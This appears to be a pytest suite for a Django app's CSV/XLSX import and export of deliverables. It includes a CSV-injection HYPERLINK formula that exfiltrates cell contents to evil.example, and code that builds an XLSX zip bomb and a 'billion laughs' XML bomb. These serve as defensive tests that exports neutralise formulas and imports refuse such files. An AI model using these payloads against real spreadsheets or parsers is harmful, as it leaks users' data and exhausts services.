"""Spreadsheet import and export: every bad row named, all or nothing, CSV and XLSX alike."""

import datetime

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from partnership.programme import services, spreadsheets
from partnership.programme.models import Deliverable, IndicatorValue

HEADER = "action,title,language,due_date,due_cycle,status,evidence\n"


def write_csv(tmp_path, text, name="rows.csv"):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_dry_run_reports_every_bad_row_with_its_number_and_changes_nothing(members, tmp_path, capsys):
    path = write_csv(
        tmp_path,
        HEADER
        + "46,Joint report,en,2027-03-31,,planned,\n"
        + "47,Bad language,xx,2027-03-31,,planned,\n"
        + "99,No such action,en,2027-03-31,,planned,\n"
        + "48,No due date,en,,,planned,\n"
        + "49,Bad link,en,2027-03-31,,planned,ftp://example.org/x\n",
    )
    with pytest.raises(CommandError, match="4 bad row"):
        call_command("import", "deliverables", str(path), "--user", "jp-secretariat", "--dry-run")
    errors = capsys.readouterr().err
    assert "row 3: language:" in errors
    assert "row 4: There is no joint action at paragraph 99." in errors
    assert "row 5: due_date: Give a due date or a due cycle." in errors
    assert "row 6: evidence:" in errors and "ftp://example.org/x" in errors
    assert "row 2" not in errors
    assert Deliverable.objects.count() == 0


def test_one_bad_row_rolls_back_the_whole_file(members, tmp_path):
    path = write_csv(tmp_path, HEADER + "46,Good,en,2027-03-31,,planned,\n47,Bad,en,2027-02-30,,planned,\n")
    with pytest.raises(CommandError, match="nothing was changed"):
        call_command("import", "deliverables", str(path), "--user", "jp-secretariat")
    assert Deliverable.objects.count() == 0


def test_good_file_imports_as_the_users_party(members, tmp_path, capsys):
    path = write_csv(tmp_path, HEADER + "46,Joint report,en,2027-03-31,,planned,https://example.org/a\n")
    call_command("import", "deliverables", str(path), "--user", "jp-secretariat")
    assert "1 created" in capsys.readouterr().out
    deliverable = Deliverable.objects.get()
    assert (deliverable.party.code, deliverable.organisation.code) == ("JP", "jp-digital-agency")
    assert deliverable.evidence == ["https://example.org/a"]


def test_rows_of_the_other_party_are_refused(members, tmp_path, capsys):
    path = write_csv(tmp_path, "action,party,title,language,due_date\n46,EU,Spoofed,en,2027-03-31\n")
    with pytest.raises(CommandError):
        call_command("import", "deliverables", str(path), "--user", "jp-secretariat")
    assert "row 2: party: this row is of EU; you can only write for JP." in capsys.readouterr().err
    assert Deliverable.objects.count() == 0


def test_action_lead_cannot_import_for_an_action_it_does_not_lead(members, tmp_path, capsys):
    path = write_csv(tmp_path, HEADER + "46,Not ours,en,2027-03-31,,planned,\n")  # MIC does not lead 46
    with pytest.raises(CommandError):
        call_command("import", "deliverables", str(path), "--user", "jp-lead")
    assert "row 2:" in capsys.readouterr().err
    assert Deliverable.objects.count() == 0


def test_export_then_import_round_trip_in_xlsx_changes_only_what_was_edited(members, tmp_path):
    jp = members["jp_secretariat"]
    first = services.create_deliverable(jp, 46, {"title": "A", "language": "en", "due_period": "2027"})
    services.create_deliverable(jp, 47, {"title": "B", "language": "en", "due_date": "2027-05-01"})
    path = tmp_path / "deliverables.xlsx"
    call_command("export", "deliverables", str(path))
    header, rows = spreadsheets.export_deliverables()
    rows[0][header.index("status")] = "in_progress"
    spreadsheets.write_table(path, header, rows)

    table = spreadsheets.read_table(path, spreadsheets.DELIVERABLE_COLUMNS, spreadsheets.DELIVERABLE_REQUIRED)
    result = spreadsheets.import_deliverables(jp, table)
    assert result.ok, result.errors
    assert (result.created, result.updated, result.unchanged) == (0, 1, 1)
    first.refresh_from_db()
    assert first.status == "in_progress" and first.revision == 2


def test_import_of_a_stale_export_is_refused(members, tmp_path):
    jp = members["jp_secretariat"]
    deliverable = services.create_deliverable(jp, 46, {"title": "A", "language": "en", "due_period": "2027"})
    header, rows = spreadsheets.export_deliverables()
    services.change_deliverable(
        jp, deliverable.uid, {"title": "A (edited on the web)"}, services.etag(deliverable)
    )
    rows[0][header.index("title")] = "A (edited in the sheet)"
    path = tmp_path / "stale.csv"
    spreadsheets.write_table(path, header, rows)
    table = spreadsheets.read_table(path, spreadsheets.DELIVERABLE_COLUMNS, spreadsheets.DELIVERABLE_REQUIRED)
    result = spreadsheets.import_deliverables(jp, table)
    assert [number for number, _ in result.errors] == [2]
    assert "changed by someone else" in result.errors[0][1]
    deliverable.refresh_from_db()
    assert deliverable.title == "A (edited on the web)"


def test_indicator_values_import_records_and_corrects(members, tmp_path):
    jp = members["jp_secretariat"]
    indicator = services.create_indicator(
        jp,
        46,
        {
            "title": "Meetings",
            "language": "en",
            "unit": "meetings",
            "baseline_value": "0",
            "baseline_year": "2022",
            "target_value": "10",
            "target_date": "2027-12-31",
        },
    )
    services.record_indicator_value(
        jp,
        indicator.uid,
        {"period_start": "2026-01-01", "period_end": "2026-01-31", "value": "1", "source": "x"},
    )
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(spreadsheets.VALUE_COLUMNS)
    sheet.append(
        [str(indicator.uid), 46, "JP", datetime.date(2026, 1, 1), datetime.date(2026, 1, 31), 2, "minutes"]
    )
    sheet.append(
        [str(indicator.uid), 46, "JP", datetime.date(2026, 2, 1), datetime.date(2026, 2, 28), 3, "minutes"]
    )
    path = tmp_path / "values.xlsx"
    workbook.save(path)
    call_command("import", "indicator-values", str(path), "--user", "jp-secretariat")
    values = {v.period_start.month: (v.value, v.source) for v in IndicatorValue.objects.all()}
    assert values == {1: (2, "minutes"), 2: (3, "minutes")}


def test_unreadable_files_are_refused_in_words(members, tmp_path):
    with pytest.raises(CommandError, match="use a .csv or .xlsx file"):
        call_command(
            "import", "deliverables", str(write_csv(tmp_path, "x", "rows.txt")), "--user", "jp-secretariat"
        )
    with pytest.raises(CommandError, match="row 1: missing column"):
        call_command(
            "import", "deliverables", str(write_csv(tmp_path, "title\nA\n")), "--user", "jp-secretariat"
        )
    with pytest.raises(CommandError, match="row 1: unknown column"):
        call_command(
            "import",
            "deliverables",
            str(write_csv(tmp_path, HEADER.strip() + ",colour\n")),
            "--user",
            "jp-secretariat",
        )
    bad_xlsx = tmp_path / "broken.xlsx"
    bad_xlsx.write_bytes(b"not a zip")
    with pytest.raises(CommandError, match="not a readable XLSX file"):
        call_command("import", "deliverables", str(bad_xlsx), "--user", "jp-secretariat")
    with pytest.raises(CommandError, match="--user: There is no active user"):
        call_command("import", "deliverables", str(write_csv(tmp_path, HEADER)), "--user", "nobody")


# Formulas in exports (CSV injection) and the lossless round trip.

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE_TITLES = [
    FORMULA_TITLE,
    "+81 3 1234 5678",
    "-5 km of cable, laid",
    "@channel: review",
    "'quoted' on purpose",
    "'=a formula typed as text",
    "''two quotes",
    "-3",
    "_x000D_ looks like an escape",
    "＝全角の等号",
]


def _deliverables_with_hostile_text(jp):
    for number, title in enumerate(HOSTILE_TITLES):
        services.create_deliverable(
            jp,
            46 + number % 4,
            {
                "title": title,
                "description": "=1+1\r\n-2 lines, a carriage return and a formula" if number == 0 else "",
                "language": "en",
                "due_period": "2027",
            },
        )


def _exported_cells(path):
    """Every cell of an exported file as a spreadsheet would see it, by (row, column) from 1."""
    import csv

    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        return {(r, c): (value, "s") for r, row in enumerate(rows, 1) for c, value in enumerate(row, 1)}
    from openpyxl import load_workbook

    sheet = load_workbook(path).worksheets[0]  # not read-only: the cells' types are what matters
    return {
        (cell.row, cell.column): (cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row
    }


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_writes_no_formula_a_spreadsheet_would_run(members, tmp_path, suffix):
    _deliverables_with_hostile_text(members["jp_secretariat"])
    path = tmp_path / f"deliverables{suffix}"
    call_command("export", "deliverables", str(path))
    cells = _exported_cells(path)
    assert all(kind != "f" for _value, kind in cells.values())
    texts = [value for value, _kind in cells.values() if isinstance(value, str)]
    assert not [text for text in texts if text.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [text for text in texts if text.startswith("-") and text != "-3"]
    assert "'" + FORMULA_TITLE in texts
    assert "''quoted' on purpose" in texts and "-3" in texts
    if suffix == ".xlsx":
        import zipfile

        with zipfile.ZipFile(path) as archive:
            assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_of_indicator_values_neutralises_the_source(members, tmp_path, suffix):
    jp = members["jp_secretariat"]
    indicator = services.create_indicator(
        jp,
        46,
        {
            "title": "Balance",
            "language": "en",
            "unit": "points",
            "baseline_value": "0",
            "baseline_year": "2022",
            "target_value": "10",
            "target_date": "2027-12-31",
        },
    )
    services.record_indicator_value(
        jp,
        indicator.uid,
        {"period_start": "2026-01-01", "period_end": "2026-01-31", "value": "-3", "source": "@SUM(1+9)"},
    )
    path = tmp_path / f"values{suffix}"
    call_command("export", "indicator-values", str(path))
    cells = _exported_cells(path)
    assert cells[(2, spreadsheets.VALUE_COLUMNS.index("source") + 1)][0] == "'@SUM(1+9)"
    assert cells[(2, spreadsheets.VALUE_COLUMNS.index("value") + 1)][0] == "-3"
    table = spreadsheets.read_table(path, spreadsheets.VALUE_COLUMNS, spreadsheets.VALUE_REQUIRED)
    result = spreadsheets.import_indicator_values(jp, table)
    assert result.ok and result.unchanged == 1, result.errors


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_imported_again_gives_back_every_hostile_text_unchanged(members, tmp_path, suffix, capsys):
    jp = members["jp_secretariat"]
    _deliverables_with_hostile_text(jp)
    before = {d.uid: (d.title, d.description, d.revision) for d in Deliverable.objects.all()}
    path = tmp_path / f"deliverables{suffix}"
    call_command("export", "deliverables", str(path))
    call_command("import", "deliverables", str(path), "--user", "jp-secretariat")
    assert f"0 created, 0 updated, {len(HOSTILE_TITLES)} unchanged" in capsys.readouterr().out
    assert {d.uid: (d.title, d.description, d.revision) for d in Deliverable.objects.all()} == before
    assert Deliverable.objects.filter(title=FORMULA_TITLE).exists()


# Text as hypothesis finds it: what read_table gives back is what write_table was given (cells are
# read without the spaces around them, so the texts have none; NUL is refused on import).
cell_text = st.text().map(str.strip).filter(lambda text: "\x00" not in text)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(title=cell_text, description=cell_text)
def test_any_text_survives_write_and_read(tmp_path, suffix, title, description):
    path = tmp_path / f"round-trip{suffix}"
    header = spreadsheets.DELIVERABLE_COLUMNS
    row = ["", "", 46, "JP", "jp-digital-agency", title, description, "en", "", 2027, "planned", ""]
    spreadsheets.write_table(path, header, [row])
    [(number, read)] = spreadsheets.read_table(path, header, spreadsheets.DELIVERABLE_REQUIRED)
    assert (number, read["title"], read["description"]) == (2, title, description)


# Imports that would cost too much, or hold what no text may hold: refused in words, nothing stored.


def _xlsx_with_sheet(path, sheet_xml_chunks, dimension=None):
    """An XLSX file whose first sheet is the given XML, written in chunks (so a huge one fits)."""
    import zipfile

    template = tmp = path.with_suffix(".template.xlsx")
    workbook = Workbook()
    workbook.active.append(["x"])
    workbook.save(tmp)
    with zipfile.ZipFile(template) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for part in source.infolist():
            if part.filename == "xl/worksheets/sheet1.xml":
                with target.open(part.filename, "w") as sheet:
                    sheet.write(
                        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                        + (f'<dimension ref="{dimension}"/>'.encode() if dimension else b"")
                        + b"<sheetData>"
                    )
                    for chunk in sheet_xml_chunks:
                        sheet.write(chunk)
                    sheet.write(b"</sheetData></worksheet>")
            else:
                target.writestr(part, source.read(part.filename))
    return path


def _inline_row(number, values):
    cells = "".join(
        f'<c r="{chr(65 + i)}{number}" t="inlineStr"><is><t>{value}</t></is></c>'
        for i, value in enumerate(values)
    )
    return f'<row r="{number}">{cells}</row>'.encode()


def _refused(path, match):
    with pytest.raises(CommandError, match=match):
        call_command("import", "deliverables", str(path), "--user", "jp-secretariat")
    assert Deliverable.objects.count() == 0


def test_an_xlsx_zip_bomb_is_refused_before_it_is_decompressed(members, tmp_path):
    # 160 MB of one letter compresses to about 160 KB: the 300 KB file that took 742 MB.
    huge_cell = (
        [b'<row r="2"><c r="A2" t="inlineStr"><is><t>'] + [b"A" * 2**20] * 160 + [b"</t></is></c></row>"]
    )
    path = _xlsx_with_sheet(
        tmp_path / "bomb.xlsx", [_inline_row(1, ["action", "title", "language"]), *huge_cell]
    )
    assert path.stat().st_size < 1_000_000
    _refused(path, "compressed more than 100 to 1, as no spreadsheet is; it is refused as a zip bomb")


def test_an_xlsx_with_two_million_blank_rows_then_data_is_refused(members, tmp_path):
    header = _inline_row(1, ["action", "title", "language", "due_cycle"])
    gap = _xlsx_with_sheet(
        tmp_path / "gap.xlsx", [header, _inline_row(2_000_002, ["46", "Late", "en", "2027"])]
    )
    _refused(gap, "gap.xlsx: more than 50000 rows after the header")
    declared = _xlsx_with_sheet(tmp_path / "declared.xlsx", [header], dimension="A1:D2000002")
    _refused(declared, "more than 50000 rows after the header")
    blank_rows = (f'<row r="{n}"/>'.encode() for n in range(2, 100_002))
    written = _xlsx_with_sheet(
        tmp_path / "written.xlsx", [header, *blank_rows, _inline_row(100_002, ["46", "Late", "en", "2027"])]
    )
    _refused(written, "more than 50000 rows after the header")


def test_an_xlsx_whose_declared_size_is_too_small_is_read_to_its_last_row(members, tmp_path):
    # openpyxl stops at the last row a sheet declares; a file that lies must not lose rows silently.
    rows = [_inline_row(n, ["46", f"Row {n}", "en", "2027"]) for n in range(2, 6)]
    header = _inline_row(1, ["action", "title", "language", "due_cycle"])
    path = _xlsx_with_sheet(tmp_path / "lying.xlsx", [header, *rows], dimension="A1:D2")
    call_command("import", "deliverables", str(path), "--user", "jp-secretariat")
    assert sorted(Deliverable.objects.values_list("title", flat=True)) == [f"Row {n}" for n in range(2, 6)]


def test_a_csv_is_refused_at_its_bad_line(members, tmp_path):
    good = HEADER + "46,Joint report,en,2027-03-31,,planned,\n"
    cases = {
        "nul.csv": (
            (good + "47,Bad\x00title,en,2027-03-31,,planned,\n").encode(),
            "nul.csv, line 3: holds a NUL",
        ),
        "latin1.csv": (
            good.encode() + "47,Caf\xe9,en,2027-03-31,,planned,\n".encode("latin-1"),
            "line 3: not UTF-8",
        ),
        "long.csv": (good.encode() + b"47," + b"x" * (5 * 2**20), "line 3: longer than 4194304 bytes"),
        "wide.csv": (
            good.encode() + b'47,"' + b"x" * 200_000 + b'",en\n',
            "line 3: not valid CSV: field larger",
        ),
        "rows.csv": (good.encode() + b"\n" * 10_000_000, "more than 50000 rows after the header"),
    }
    for name, (content, match) in cases.items():
        path = tmp_path / name
        path.write_bytes(content)
        _refused(path, match)


def test_a_csv_with_old_mac_line_ends_and_quoted_line_breaks_still_reads(members, tmp_path):
    path = tmp_path / "mac.csv"
    path.write_bytes(HEADER.strip().encode() + b'\r46,"Two\r\nlines",en,2027-03-31,,planned,\r')
    call_command("import", "deliverables", str(path), "--user", "jp-secretariat")
    assert Deliverable.objects.get().title == "Two\r\nlines"


def test_an_xlsx_with_an_entity_expansion_bomb_or_broken_xml_is_refused_in_words(members, tmp_path):
    import zipfile

    plain = tmp_path / "plain.xlsx"
    workbook = Workbook()
    workbook.active.append(["action", "title", "language"])
    workbook.save(plain)
    # "Billion laughs": ten entities of ten entities ... a few hundred bytes that expand to gigabytes.
    entities = "".join(f'<!ENTITY lol{level} "' + f"&lol{level - 1};" * 10 + '">' for level in range(2, 10))
    strings = (
        f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol1 "lol">{entities}]>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>'
    )
    laughs = tmp_path / "laughs.xlsx"
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(laughs, "w") as target:
        for part in source.infolist():
            data = source.read(part.filename)
            if part.filename == "[Content_Types].xml":
                data = data.replace(
                    b"</Types>",
                    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
                )
            if part.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
                    b'2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
                )
            target.writestr(part, data)
        target.writestr("xl/sharedStrings.xml", strings)
    _refused(laughs, "laughs.xlsx: not a readable XLSX file: limit on input amplification factor")

    header = _inline_row(1, ["action", "title", "language", "due_cycle"])
    broken = _xlsx_with_sheet(tmp_path / "broken.xlsx", [header, b'<row r="2"><c r="A2" t="inlineStr"><is>'])
    _refused(broken, "broken.xlsx: not a readable XLSX file")
